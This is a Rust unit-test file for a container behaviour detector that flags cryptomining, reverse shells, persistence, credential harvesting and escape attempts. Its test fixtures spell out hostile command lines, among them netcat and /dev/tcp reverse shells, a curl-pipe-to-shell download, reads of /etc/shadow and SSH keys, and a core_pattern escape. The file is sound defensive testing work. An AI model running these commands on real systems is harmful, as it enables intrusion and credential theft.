use crate::events::*;
use crate::signals::{evaluate, judge, Verdict, RULES};

fn exec(pid: u32, exe: &str, argv: &[&str], start: f64) -> ProcessRecord {
    ProcessRecord {
        pid,
        ppid: Some(1),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        exe: exe.to_string(),
        uid: Some(0),
        cwd: Some("/".to_string()),
        start,
        details_complete: true,
        ..Default::default()
    }
}

fn dns(name: &str) -> DnsRecord {
    DnsRecord {
        name: name.to_string(),
        qtype: "A".to_string(),
        answer: Some("10.200.0.5".to_string()),
        time: 1.0,
    }
}

fn flow(ip: &str, port: u16, name: Option<&str>, payload: &[u8], time: f64) -> FlowRecord {
    FlowRecord {
        protocol: "tcp".to_string(),
        dst_ip: ip.to_string(),
        dst_port: port,
        dst_name: name.map(str::to_string),
        bytes: payload.len() as u64,
        first_payload_hex: hex::encode(payload),
        time,
    }
}

fn file(path: &str, change: ChangeKind) -> FileRecord {
    FileRecord {
        path: path.to_string(),
        change: Some(change),
        size: Some(10),
        mode: Some(0o644),
        kind: FileKind::Other,
        ..Default::default()
    }
}

fn raised(obs: &Observations) -> Vec<String> {
    evaluate(obs).into_iter().map(|s| s.id).collect()
}

fn assert_raised(obs: &Observations, id: &str) {
    let ids = raised(obs);
    assert!(
        ids.iter().any(|i| i == id),
        "{id} not raised; raised: {ids:?}"
    );
}

fn assert_not_raised(obs: &Observations, id: &str) {
    let ids = raised(obs);
    assert!(!ids.iter().any(|i| i == id), "{id} raised unexpectedly");
}

#[test]
fn catalogue_has_unique_ids_and_attack_ids() {
    assert!(RULES.len() >= 25);
    let mut ids: Vec<&str> = RULES.iter().map(|r| r.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), RULES.len());
    for rule in RULES {
        assert!(
            rule.attack_id.starts_with('T'),
            "{} has no technique id",
            rule.id
        );
    }
}

#[test]
fn empty_run_is_benign() {
    let obs = Observations::default();
    assert!(evaluate(&obs).is_empty());
    assert_eq!(judge(&[]).verdict, Verdict::Benign);
}

#[test]
fn pool_domain_lookup_raises_signal() {
    let obs = Observations {
        dns: vec![
            dns("us-east.cryptonight-hub.miningpoolhub.com"),
            dns("deb.debian.org"),
        ],
        ..Default::default()
    };
    let signals = evaluate(&obs);
    let pool = signals
        .iter()
        .find(|s| s.id == "mining-pool-domain")
        .unwrap();
    assert_eq!(pool.evidence.len(), 1);
    assert_eq!(pool.evidence[0].source, "dns");
    assert_eq!(pool.evidence[0].index, 0);
}

#[test]
fn pool_label_heuristic_matches() {
    let obs = Observations {
        dns: vec![dns("xmr.pool.example")],
        ..Default::default()
    };
    assert_raised(&obs, "mining-pool-domain");
    let benign = Observations {
        dns: vec![dns("pool.ntp.org")],
        ..Default::default()
    };
    assert_not_raised(&benign, "mining-pool-domain");
}

#[test]
fn stratum_login_payload_is_detected() {
    let login = br#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A...","pass":"x","agent":"XMRig/6.21.0"}}"#;
    let obs = Observations {
        flows: vec![flow(
            "10.200.0.9",
            443,
            Some("pool.example.test"),
            login,
            2.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "stratum-protocol");
    let http = Observations {
        flows: vec![flow("10.200.0.9", 80, None, b"GET / HTTP/1.1\r\n\r\n", 2.0)],
        ..Default::default()
    };
    assert_not_raised(&http, "stratum-protocol");
}

#[test]
fn miner_arguments_raise_signal() {
    let obs = Observations {
        processes: vec![exec(
            7,
            "/usr/bin/kworker",
            &[
                "kworker",
                "-o",
                "stratum+tcp://pool.supportxmr.com:3333",
                "--donate-level",
                "1",
            ],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "miner-command-line");
}

#[test]
fn forked_workers_add_no_evidence() {
    let master = exec(7, "/opt/xmrig", &["/opt/xmrig"], 1.0);
    let worker = ProcessRecord {
        pid: 8,
        ppid: Some(7),
        start: 1.5,
        forked_only: true,
        ..master.clone()
    };
    let obs = Observations {
        processes: vec![master, worker],
        ..Default::default()
    };
    let signals = evaluate(&obs);
    let miner = signals
        .iter()
        .find(|s| s.id == "miner-command-line")
        .expect("miner-command-line raised");
    assert_eq!(miner.evidence.len(), 1, "{:?}", miner.evidence);
    assert_eq!(miner.evidence[0].index, 0);
}

#[test]
fn miner_binary_name_raises_signal() {
    let obs = Observations {
        processes: vec![exec(7, "/opt/xmrig", &["/opt/xmrig"], 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "miner-command-line");
}

#[test]
fn miner_port_connection_raises_signal() {
    let obs = Observations {
        flows: vec![flow(
            "10.200.0.2",
            3333,
            Some("pool.minexmr.com"),
            b"{}",
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "miner-port");
    let web = Observations {
        flows: vec![flow("10.200.0.2", 443, Some("x.test"), b"", 1.0)],
        ..Default::default()
    };
    assert_not_raised(&web, "miner-port");
}

#[test]
fn tor_lookups_ports_and_program() {
    let by_dns = Observations {
        dns: vec![dns("abcdefghijklmnop.onion")],
        ..Default::default()
    };
    assert_raised(&by_dns, "tor-usage");
    let by_port = Observations {
        flows: vec![flow("10.200.0.3", 9050, None, b"", 1.0)],
        ..Default::default()
    };
    assert_raised(&by_port, "tor-usage");
    let by_exec = Observations {
        processes: vec![exec(5, "/usr/bin/tor", &["tor"], 1.0)],
        ..Default::default()
    };
    assert_raised(&by_exec, "tor-usage");
}

#[test]
fn busybox_nc_exec_is_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(
            9,
            "/bin/busybox",
            &["busybox", "nc", "10.200.0.4", "4444", "-e", "/bin/sh"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "reverse-shell");
}

#[test]
fn bash_dev_tcp_is_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(
            9,
            "/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "reverse-shell");
}

#[test]
fn shell_connecting_out_is_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(9, "/bin/sh", &["/bin/sh"], 1.0)],
        socket_calls: vec![SocketCall {
            pid: 9,
            call: "connect".to_string(),
            address: Some("10.200.0.4:4444".to_string()),
            time: 1.5,
        }],
        ..Default::default()
    };
    assert_raised(&obs, "reverse-shell");
}

#[test]
fn plain_nc_client_is_not_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(
            9,
            "/bin/busybox",
            &["busybox", "nc", "10.200.0.4", "80"],
            1.0,
        )],
        ..Default::default()
    };
    assert_not_raised(&obs, "reverse-shell");
}

#[test]
fn sshd_start_raises_signal() {
    let obs = Observations {
        processes: vec![exec(3, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"], 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "sshd-started");
}

#[test]
fn sshd_in_ssh_image_is_expected() {
    let obs = Observations {
        image: ImageFacts {
            exposed_ports: vec!["22/tcp".to_string()],
            ..Default::default()
        },
        processes: vec![exec(3, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"], 1.0)],
        ..Default::default()
    };
    assert_not_raised(&obs, "sshd-started");
}

#[test]
fn authorized_keys_write_raises_signal() {
    let obs = Observations {
        files: vec![file("/root/.ssh/authorized_keys", ChangeKind::Added)],
        ..Default::default()
    };
    assert_raised(&obs, "ssh-key-persistence");
}

#[test]
fn cron_file_and_crontab_exec() {
    let by_file = Observations {
        files: vec![file("/etc/cron.d/sys", ChangeKind::Added)],
        ..Default::default()
    };
    assert_raised(&by_file, "cron-persistence");
    let by_spool = Observations {
        files: vec![file("/var/spool/cron/crontabs/root", ChangeKind::Changed)],
        ..Default::default()
    };
    assert_raised(&by_spool, "cron-persistence");
    let by_exec = Observations {
        processes: vec![exec(4, "/usr/bin/crontab", &["crontab", "-"], 1.0)],
        ..Default::default()
    };
    assert_raised(&by_exec, "cron-persistence");
    let listing = Observations {
        processes: vec![exec(4, "/usr/bin/crontab", &["crontab", "-l"], 1.0)],
        ..Default::default()
    };
    assert_not_raised(&listing, "cron-persistence");
}

#[test]
fn profile_append_raises_signal() {
    let obs = Observations {
        files: vec![file("/etc/profile", ChangeKind::Changed)],
        ..Default::default()
    };
    assert_raised(&obs, "profile-persistence");
}

#[test]
fn ld_so_preload_and_env() {
    let by_file = Observations {
        files: vec![file("/etc/ld.so.preload", ChangeKind::Added)],
        ..Default::default()
    };
    assert_raised(&by_file, "ld-preload-hijack");
    let mut p = exec(4, "/bin/ls", &["ls"], 1.0);
    p.env = vec!["LD_PRELOAD=/tmp/x.so".to_string()];
    let by_env = Observations {
        processes: vec![p],
        ..Default::default()
    };
    assert_raised(&by_env, "ld-preload-hijack");
}

#[test]
fn executing_added_file_is_drop_and_execute() {
    let mut dropped = file("/root/payload", ChangeKind::Added);
    dropped.kind = FileKind::Elf;
    let obs = Observations {
        files: vec![dropped],
        processes: vec![exec(8, "/root/payload", &["/root/payload"], 3.0)],
        ..Default::default()
    };
    assert_raised(&obs, "drop-and-execute");
}

#[test]
fn traced_write_then_exec_is_drop_and_execute() {
    let obs = Observations {
        file_accesses: vec![FileAccess {
            pid: 5,
            path: "/tmp/.x/kdevtmpfsi".to_string(),
            op: FileOp::Write,
            time: 1.0,
        }],
        processes: vec![exec(8, "/tmp/.x/kdevtmpfsi", &["kdevtmpfsi"], 2.0)],
        ..Default::default()
    };
    assert_raised(&obs, "drop-and-execute");
    assert_raised(&obs, "exec-from-temp");
}

#[test]
fn exec_from_dev_shm_and_hidden_dir() {
    let shm = Observations {
        processes: vec![exec(8, "/dev/shm/x", &["x"], 1.0)],
        ..Default::default()
    };
    assert_raised(&shm, "exec-from-temp");
    let hidden = Observations {
        processes: vec![exec(8, "/opt/.sysupdate/init.sh", &["init.sh"], 1.0)],
        ..Default::default()
    };
    assert_raised(&hidden, "exec-from-temp");
    let normal = Observations {
        processes: vec![exec(8, "/usr/sbin/nginx", &["nginx"], 1.0)],
        ..Default::default()
    };
    assert_not_raised(&normal, "exec-from-temp");
}

#[test]
fn memfd_exec_is_fileless() {
    let obs = Observations {
        processes: vec![exec(8, "/memfd:payload (deleted)", &["x"], 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "fileless-exec");
    let fd = Observations {
        processes: vec![exec(8, "/proc/self/fd/3", &["x"], 1.0)],
        ..Default::default()
    };
    assert_raised(&fd, "fileless-exec");
}

#[test]
fn curl_pipe_sh_is_download_and_run() {
    let obs = Observations {
        processes: vec![exec(
            6,
            "/bin/sh",
            &["sh", "-c", "curl -fsSL http://x.test/i.sh | sh"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "download-and-run");
}

#[test]
fn wget_then_exec_is_download_and_run() {
    let obs = Observations {
        processes: vec![
            exec(
                6,
                "/bin/busybox",
                &["wget", "-O", "/tmp/x", "http://cdn.test/x"],
                1.0,
            ),
            exec(7, "/tmp/x", &["/tmp/x"], 2.0),
        ],
        files: vec![file("/tmp/x", ChangeKind::Added)],
        ..Default::default()
    };
    assert_raised(&obs, "download-and-run");
}

#[test]
fn base64_decode_raises_signal() {
    let obs = Observations {
        processes: vec![exec(6, "/usr/bin/base64", &["base64", "-d"], 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "payload-decoding");
    let encode = Observations {
        processes: vec![exec(6, "/usr/bin/base64", &["base64", "file"], 1.0)],
        ..Default::default()
    };
    assert_not_raised(&encode, "payload-decoding");
}

#[test]
fn many_destinations_is_scanning() {
    let flows = (1..=30)
        .map(|i| flow(&format!("10.0.0.{i}"), 22, None, b"", i as f64 * 0.1))
        .collect();
    let obs = Observations {
        flows,
        ..Default::default()
    };
    assert_raised(&obs, "network-scanning");
    let ports = (1..=25)
        .map(|p| flow("10.0.0.1", 1000 + p, None, b"", 0.1))
        .collect();
    let obs = Observations {
        flows: ports,
        ..Default::default()
    };
    assert_raised(&obs, "network-scanning");
    let masscan = Observations {
        processes: vec![exec(3, "/usr/bin/masscan", &["masscan"], 1.0)],
        ..Default::default()
    };
    assert_raised(&masscan, "network-scanning");
}

#[test]
fn shodan_lookup_is_recon() {
    let obs = Observations {
        dns: vec![dns("api.shodan.io")],
        ..Default::default()
    };
    assert_raised(&obs, "recon-service");
}

#[test]
fn ipify_lookup_is_public_ip_discovery() {
    let obs = Observations {
        dns: vec![dns("api.ipify.org")],
        ..Default::default()
    };
    assert_raised(&obs, "public-ip-discovery");
}

#[test]
fn regular_connections_are_beaconing() {
    let flows = (0..6)
        .map(|i| {
            flow(
                "10.200.0.7",
                443,
                Some("c2.example.test"),
                b"",
                1.0 + i as f64 * 5.0,
            )
        })
        .collect();
    let obs = Observations {
        flows,
        ..Default::default()
    };
    assert_raised(&obs, "beaconing");
    let irregular = [1.0, 1.2, 9.0, 9.1, 25.0];
    let flows = irregular
        .iter()
        .map(|t| flow("10.200.0.7", 443, Some("c2.example.test"), b"", *t))
        .collect();
    let obs = Observations {
        flows,
        ..Default::default()
    };
    assert_not_raised(&obs, "beaconing");
}

#[test]
fn sustained_cpu_is_saturation() {
    let stats = (0..30)
        .map(|i| StatsSample {
            time: i as f64,
            cpu_percent: 99.0,
            memory_bytes: 1,
            pids: 2,
        })
        .collect();
    let obs = Observations {
        stats,
        cpu_limit: 1.0,
        ..Default::default()
    };
    assert_raised(&obs, "cpu-saturation");
    let idle = (0..30)
        .map(|i| StatsSample {
            time: i as f64,
            cpu_percent: 2.0,
            memory_bytes: 1,
            pids: 2,
        })
        .collect();
    let obs = Observations {
        stats: idle,
        cpu_limit: 1.0,
        ..Default::default()
    };
    assert_not_raised(&obs, "cpu-saturation");
}

#[test]
fn iptables_flush_and_history_are_tampering() {
    let obs = Observations {
        processes: vec![exec(3, "/usr/sbin/iptables", &["iptables", "-F"], 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "log-tampering");
    let hist = Observations {
        processes: vec![exec(
            3,
            "/bin/sh",
            &["sh", "-c", "unset HISTFILE; history -c"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&hist, "log-tampering");
    let deleted = Observations {
        files: vec![file("/var/log/auth.log", ChangeKind::Deleted)],
        ..Default::default()
    };
    assert_raised(&deleted, "log-tampering");
}

#[test]
fn shadow_read_and_key_search_are_harvesting() {
    let cat = Observations {
        processes: vec![exec(3, "/bin/cat", &["cat", "/etc/shadow"], 1.0)],
        ..Default::default()
    };
    assert_raised(&cat, "credential-harvesting");
    let find = Observations {
        processes: vec![exec(
            3,
            "/usr/bin/find",
            &["find", "/", "-name", "id_rsa"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&find, "credential-harvesting");
    let traced = Observations {
        file_accesses: vec![FileAccess {
            pid: 3,
            path: "/root/.aws/credentials".to_string(),
            op: FileOp::Read,
            time: 1.0,
        }],
        ..Default::default()
    };
    assert_raised(&traced, "credential-harvesting");
}

#[test]
fn metadata_address_flow_is_detected() {
    let obs = Observations {
        flows: vec![flow(
            "169.254.169.254",
            80,
            None,
            b"GET /latest/meta-data/ HTTP/1.1\r\n",
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "cloud-metadata-access");
    assert_not_raised(&obs, "raw-ip-connection");
}

#[test]
fn escape_attempts_are_detected() {
    let sock = Observations {
        file_accesses: vec![FileAccess {
            pid: 3,
            path: "/var/run/docker.sock".to_string(),
            op: FileOp::Read,
            time: 1.0,
        }],
        ..Default::default()
    };
    assert_raised(&sock, "container-escape");
    let nsenter = Observations {
        processes: vec![exec(
            3,
            "/usr/bin/nsenter",
            &["nsenter", "-t", "1", "-m"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&nsenter, "container-escape");
    let core = Observations {
        processes: vec![exec(
            3,
            "/bin/sh",
            &["sh", "-c", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&core, "container-escape");
}

#[test]
fn setuid_file_creation_is_detected() {
    let mut f = file("/tmp/rootsh", ChangeKind::Added);
    f.mode = Some(0o4755);
    let obs = Observations {
        files: vec![f],
        ..Default::default()
    };
    assert_raised(&obs, "setuid-file");
}

#[test]
fn passwd_change_is_account_tampering() {
    let obs = Observations {
        files: vec![file("/etc/passwd", ChangeKind::Changed)],
        ..Default::default()
    };
    assert_raised(&obs, "account-tampering");
}

#[test]
fn cpuinfo_copy_is_system_survey() {
    let obs = Observations {
        processes: vec![exec(
            3,
            "/bin/cp",
            &["cp", "/proc/cpuinfo", "/tmp/.cpuinfo"],
            1.0,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "system-survey");
}

#[test]
fn unresolved_address_is_raw_ip_connection() {
    let obs = Observations {
        flows: vec![flow("203.0.113.9", 8080, None, b"", 1.0)],
        ..Default::default()
    };
    assert_raised(&obs, "raw-ip-connection");
}

#[test]
fn scanner_hit_is_known_malware() {
    let obs = Observations {
        content_matches: vec![ContentMatch {
            path: "/tmp/x".to_string(),
            rule: "XMRig_strings".to_string(),
            severity: cordon_model::Severity::High,
        }],
        ..Default::default()
    };
    assert_raised(&obs, "known-malware-content");
}

#[test]
fn miner_run_is_judged_malicious() {
    let login = br#"{"method":"login","params":{"agent":"XMRig/6.21"}}"#;
    let obs = Observations {
        dns: vec![dns("pool.minexmr.com")],
        flows: vec![flow(
            "10.200.0.2",
            3333,
            Some("pool.minexmr.com"),
            login,
            2.0,
        )],
        files: vec![
            file("/root/cmd.sh", ChangeKind::Added),
            file("/var/spool/cron/crontabs/root", ChangeKind::Changed),
        ],
        ..Default::default()
    };
    let signals = evaluate(&obs);
    let judgement = judge(&signals);
    assert_eq!(judgement.verdict, Verdict::Malicious);
    assert!(judgement.score >= 50);
    assert!(!judgement.reasons.is_empty());
}

#[test]
fn web_server_run_is_benign() {
    let obs = Observations {
        processes: vec![
            exec(1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 0.0),
            exec(7, "/usr/sbin/nginx", &["nginx: worker process"], 0.1),
        ],
        files: vec![
            file("/var/cache/nginx/client_temp", ChangeKind::Added),
            file("/run/nginx.pid", ChangeKind::Added),
        ],
        ..Default::default()
    };
    let signals = evaluate(&obs);
    assert!(signals.is_empty(), "{signals:?}");
    assert_eq!(judge(&signals).verdict, Verdict::Benign);
}

#[test]
fn dev_tcp_client_is_not_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(
            9,
            "/bin/bash",
            &[
                "bash",
                "-c",
                "exec 3<>/dev/tcp/pool.minexmr.com/3333 && printf x >&3 && head -c 512 <&3",
            ],
            1.0,
        )],
        ..Default::default()
    };
    assert_not_raised(&obs, "reverse-shell");
}

#[test]
fn lookup_of_pool_name_is_not_miner_command() {
    let obs = Observations {
        processes: vec![exec(
            8,
            "/usr/bin/getent",
            &[
                "getent",
                "hosts",
                "us-east.cryptonight-hub.miningpoolhub.com",
            ],
            1.0,
        )],
        ..Default::default()
    };
    assert_not_raised(&obs, "miner-command-line");
}

#[test]
fn shell_exec_after_socket_dup_is_reverse_shell() {
    let obs = Observations {
        processes: vec![exec(2, "/bin/sh", &["/bin/sh"], 0.5)],
        socket_calls: vec![SocketCall {
            pid: 2,
            call: "dup-stdio".to_string(),
            address: None,
            time: 0.4,
        }],
        ..Default::default()
    };
    assert_raised(&obs, "reverse-shell");
}

#[test]
fn busybox_applet_reexec_uses_argv_zero() {
    let obs = Observations {
        processes: vec![exec(
            2,
            "/bin/sh",
            &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
            0.5,
        )],
        ..Default::default()
    };
    assert_raised(&obs, "reverse-shell");
}

#[test]
fn failed_sshd_and_tor_attempts_are_evidence() {
    let obs = Observations {
        exec_attempts: vec![
            ExecAttempt {
                pid: 4,
                path: "/usr/sbin/sshd".to_string(),
                time: 1.0,
            },
            ExecAttempt {
                pid: 5,
                path: "/usr/bin/tor".to_string(),
                time: 1.1,
            },
        ],
        ..Default::default()
    };
    assert_raised(&obs, "sshd-started");
    assert_raised(&obs, "tor-usage");
}
